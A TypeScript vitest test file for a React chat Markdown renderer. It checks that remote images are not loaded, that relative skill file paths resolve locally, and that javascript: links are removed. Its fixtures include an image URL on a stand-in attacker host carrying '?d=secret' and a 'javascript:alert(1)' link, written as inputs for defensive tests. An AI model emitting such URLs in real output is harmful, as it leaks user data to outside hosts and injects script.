import { describe, expect, it } from "vitest";
import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { ChatMarkdown } from "./message-view";

// The chat renders quoted skill Markdown under the skill page's URL rules (url-rules.tsx).

const files = new Map([
  ["SKILL.md", { mediaType: "text/markdown", skillId: "s1", version: 2 }],
  ["assets/pipeline.png", { mediaType: "image/png", skillId: "s1", version: 2 }],
  ["references/api.md", { mediaType: "text/markdown", skillId: "s1", version: 2 }],
]);
const html = (text: string, known = files) => renderToStaticMarkup(createElement(ChatMarkdown, { text, files: known, skills: ["pdf-tools"] }));

describe("ChatMarkdown", () => {
  it("never renders a remote image: it shows its alt text and URL instead", () => {
    const out = html("> ![diagram](http://evil.example/x.png?d=secret) ![](//evil.example/y.png)");
    expect(out).not.toMatch(/<img/);
    expect(out).toContain("remote image, not loaded");
    expect(out).toContain('title="Remote image not loaded: http://evil.example/x.png?d=secret"');
    expect(out).toContain(">diagram</a>");
  });

  it("resolves a quoted skill's relative images and links to that skill's files", () => {
    const out = html("> ![pipeline](assets/pipeline.png) see [the API](./references/api.md#errors)");
    expect(out).toContain('<img src="/api/skills/s1/files/assets/pipeline.png?v=2" alt="pipeline"');
    expect(out).toContain('href="/skills/s1/v/2?file=references/api.md#md-errors"');
    expect(out).toContain('target="_blank"');
  });

  it("marks a relative path no loaded skill has, and requests nothing for it", () => {
    const out = html("![gone](assets/gone.png) [x](nope.md) [js](javascript:alert(1))", new Map());
    expect(out).not.toMatch(/<img|href=/);
    expect(out).toContain("assets/gone.png is not a file of pdf-tools");
    expect(out).toContain("Link removed: javascript: URLs are not allowed");
  });
});
